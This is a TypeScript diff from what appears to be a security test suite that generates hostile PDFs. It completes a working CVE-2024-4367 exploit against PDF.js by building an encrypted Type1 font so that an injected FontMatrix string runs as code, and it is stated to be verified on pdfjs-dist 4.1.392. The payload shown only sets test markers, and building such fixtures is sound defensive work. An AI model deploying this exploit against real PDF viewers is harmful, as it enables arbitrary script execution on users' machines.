@@ -77,13 +77,22 @@ export async function hostileActionsPdf(): Promise<Uint8Array> {
   return doc.save({ useObjectStreams: false });
 }
 
-/** CVE-2024-4367: a Type1 font whose FontMatrix ends in a string that closes the generated code and adds the payload. */
+/**
+ * CVE-2024-4367: a Type1 font whose FontMatrix ends in a string that closes the glyph code a
+ * vulnerable PDF.js generates and appends the payload. Checked to work: opened with
+ * pdfjs-dist 4.1.392's default options (useSystemFonts off, as the kiosk's reader), it sets the
+ * global, the title and the hash.
+ */
 export async function fontMatrixPayloadPdf(): Promise<Uint8Array> {
   const doc = await PDFDocument.create();
   const page = doc.addPage([a4.width, a4.height]);
   const context = doc.context;
-  // An empty CFF program: PDF.js cannot load it as a font face and falls back to drawing glyph paths.
-  const fontFile = context.register(context.stream(new Uint8Array(0), { Subtype: 'Type2' }));
+  // A real Type1 program (boxes for A–F and a–f) without a FontMatrix of its own, so a vulnerable
+  // PDF.js takes the dictionary's, and a pattern fill makes it compile the glyphs into code.
+  const program = boxGlyphsType1();
+  const fontFile = context.register(
+    context.stream(program.bytes, { Length1: program.clearLength, Length2: program.encryptedLength, Length3: 0 }),
+  );
   const descriptor = context.register(
     context.obj({
       Type: 'FontDescriptor',
@@ -96,7 +105,7 @@ export async function fontMatrixPayloadPdf(): Promise<Uint8Array> {
       CapHeight: 713,
       StemV: 100,
       MissingWidth: 250,
-      FontFile3: fontFile,
+      FontFile: fontFile,
     }),
   );
   const font = context.register(
@@ -140,4 +149,81 @@ export async function fontMatrixPayloadPdf(): Promise<Uint8Array> {
   const content = "BT 50 500 Td 117 TL /F1 150 Tf /Pattern cs /P1 scn (AbCdEf) Tj /P2 scn (AbCdEf) ' ET";
   page.node.set(PDFName.of('Contents'), context.register(context.stream(content)));
   return doc.save({ useObjectStreams: false });
+}
+
+/** Type 1 encryption (eexec and charstrings differ only in the starting key); `lenIV` zero bytes lead. */
+function type1Encrypt(plain: readonly number[], key: number): number[] {
+  let r = key;
+  return [0, 0, 0, 0, ...plain].map((byte) => {
+    const cipher = (byte ^ (r >> 8)) & 0xff;
+    r = ((cipher + r) * 52845 + 22719) & 0xffff;
+    return cipher;
+  });
+}
+
+/** A Type 1 charstring number. */
+function type1Number(value: number): number[] {
+  if (value >= -107 && value <= 107) return [value + 139];
+  if (value >= 108 && value <= 1131) return [((value - 108) >> 8) + 247, (value - 108) & 0xff];
+  if (value <= -108 && value >= -1131) return [((-value - 108) >> 8) + 251, (-value - 108) & 0xff];
+  throw new Error(`${value} does not fit a short Type 1 number`);
+}
+
+/** A minimal Type 1 font whose glyphs A–F and a–f are filled boxes, and which sets no FontMatrix. */
+function boxGlyphsType1(): { bytes: Uint8Array; clearLength: number; encryptedLength: number } {
+  const ascii = (text: string) => [...new TextEncoder().encode(text)];
+  const clear = ascii(
+    [
+      '%!PS-AdobeFont-1.0: Payload 001',
+      '10 dict begin',
+      '/FontName /Payload def',
+      '/FontType 1 def',
+      '/PaintType 0 def',
+      '/FontBBox {0 0 600 700} readonly def',
+      '/Encoding StandardEncoding def',
+      'currentdict end',
+      'currentfile eexec',
+      '',
+    ].join('\n'),
+  );
+  // hsbw, rmoveto, hlineto, vlineto, hlineto, closepath, endchar
+  const box = [
+    ...type1Number(0),
+    ...type1Number(500),
+    13,
+    ...type1Number(100),
+    ...type1Number(0),
+    21,
+    ...type1Number(400),
+    6,
+    ...type1Number(600),
+    7,
+    ...type1Number(-400),
+    6,
+    9,
+    14,
+  ];
+  const glyph = (name: string, charstring: number[]) => {
+    const encrypted = type1Encrypt(charstring, 4330);
+    return [...ascii(`/${name} ${encrypted.length} RD `), ...encrypted, ...ascii(' ND\n')];
+  };
+  const names = ['A', 'B', 'C', 'D', 'E', 'F', 'a', 'b', 'c', 'd', 'e', 'f'];
+  const privatePart = [
+    ...ascii('dup /Private 8 dict dup begin\n'),
+    ...ascii('/RD {string currentfile exch readstring pop} executeonly def\n'),
+    ...ascii('/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n'),
+    ...ascii('/lenIV 4 def\n/Subrs 0 array\n'),
+    ...ascii(`2 index /CharStrings ${names.length + 1} dict dup begin\n`),
+    ...glyph('.notdef', [...type1Number(0), ...type1Number(500), 13, 14]),
+    ...names.flatMap((name) => glyph(name, box)),
+    ...ascii(
+      'end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n',
+    ),
+  ];
+  const encrypted = type1Encrypt(privatePart, 55665);
+  return {
+    bytes: Uint8Array.from([...clear, ...encrypted]),
+    clearLength: clear.length,
+    encryptedLength: encrypted.length,
+  };
 }
